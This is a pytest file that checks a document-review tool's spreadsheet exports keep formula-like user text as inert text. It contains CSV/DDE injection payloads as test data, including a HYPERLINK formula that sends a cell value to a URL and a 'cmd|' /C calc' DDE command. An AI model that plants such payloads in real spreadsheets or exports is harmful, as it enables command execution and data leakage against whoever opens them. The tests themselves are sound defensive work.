"""Outsider text cannot act (issue 13, section 3): a comment, rationale, proposal or name that
looks like a formula, a control character or markup stays inert text in every output."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from lafast_docs.decisions.disposition import decide
from lafast_docs.decisions.sheet import export
from lafast_docs.outputs.synopse import synopse

from ..conftest import SAMPLE_FS, libreoffice_convert

# what a spreadsheet would run or link when read as a formula (CSV/DDE injection classics)
FORMULAS = {
    "text": '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Klick")',
    "rationale": "+1+2",
    "new": "-2+3+cmd|' /C calc'!A0",
    "reason": "@SUM(1+1)",
}


@pytest.fixture
def formula_ws(fs_ws):
    ids = fs_ws.submit(
        "awo-sachsen",
        f"  - rn: 76\n    art: inhaltlich\n    anmerkung: '{FORMULAS['text']}'\n"
        f"    begruendung: '{FORMULAS['rationale']}'\n"
        f'    aenderungsvorschlag: "{FORMULAS["new"]}"\n',
    )
    decide(fs_ws, ids[0], "abgelehnt", reason=FORMULAS["reason"])
    return fs_ws


def formula_cells(path: Path) -> list[str]:
    """Every cell openpyxl reads as a formula, and every `<f>` element in the sheets' XML."""
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(path) as z:
        found += [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
    return found


def texts(path: Path) -> set[str]:
    return {
        str(v)
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows(values_only=True)
        for v in row
        if v is not None
    }


def sheets_of(ws, tmp_path: Path) -> dict[str, Path]:
    sheet, _n = export(ws, SAMPLE_FS, target=tmp_path / "abwaegung.xlsx")
    [syn] = synopse(
        ws, SAMPLE_FS, f"lafast/{SAMPLE_FS}/runde-1", "HEAD", formats=("xlsx",), out_dir=tmp_path
    )
    return {"abwaegung": sheet, "synopse": syn.path}


def test_spreadsheet_cells_from_text_are_never_formulas(formula_ws, tmp_path) -> None:
    for name, path in sheets_of(formula_ws, tmp_path).items():
        assert formula_cells(path) == [], name
        values = " ".join(texts(path))
        present = [v for v in FORMULAS.values() if v in values]
        assert present, (name, values[:400])  # the text is kept, as text


@pytest.mark.slow
def test_libreoffice_evaluates_nothing(formula_ws, tmp_path) -> None:
    """LibreOffice opens each sheet and saves it again: a formula would come back evaluated
    (3, 2, 'Klick'); text comes back unchanged."""
    for name, path in sheets_of(formula_ws, tmp_path).items():
        again = libreoffice_convert(path, "xlsx:Calc MS Excel 2007 XML", tmp_path / f"lo-{name}")
        assert formula_cells(again) == [], name
        values = texts(again)
        for key in ("text", "rationale", "new", "reason"):
            if any(FORMULAS[key] in v for v in texts(path)):
                assert any(FORMULAS[key] in v for v in values), (name, key)
        assert "Klick" not in values and "3" not in values and "2" not in values
